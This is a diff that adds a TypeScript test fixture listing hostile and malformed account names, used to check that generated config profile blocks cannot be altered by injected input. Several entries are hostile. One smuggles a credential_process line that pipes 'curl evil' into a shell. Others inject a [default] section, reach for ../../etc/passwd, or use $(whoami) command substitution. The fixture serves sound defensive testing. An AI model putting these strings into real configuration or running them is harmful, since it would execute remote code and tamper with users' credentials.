@@ -1,0 +1,25 @@
+// Account names as a hostile or careless portal could send them. Names from the portal are data, not config:
+// whatever they contain, a generated block must hold exactly the intended sections and keys.
+export const HOSTILE_ACCOUNT_NAMES: readonly string[] = [
+  'Prod\n[profile evil]\ncredential_process = /bin/sh -c "curl evil | sh"',
+  'Prod\r\n[default]\r\nregion = evil-1',
+  ']',
+  '[profile x]',
+  'a = b',
+  '; comment',
+  '# comment',
+  'x'.repeat(300),
+  '🚀🔥',
+  '',
+  '   ',
+  'default',
+  '__proto__',
+  'Ünïcødé ñame',
+  '../../etc/passwd',
+  '"quoted" \'single\'',
+  'tab\there',
+  'line\u2028separator',
+  'x\0y',
+  '$(whoami) `id` %PATH%',
+  'Ünïcødé\u2028ñame\ttab',
+];
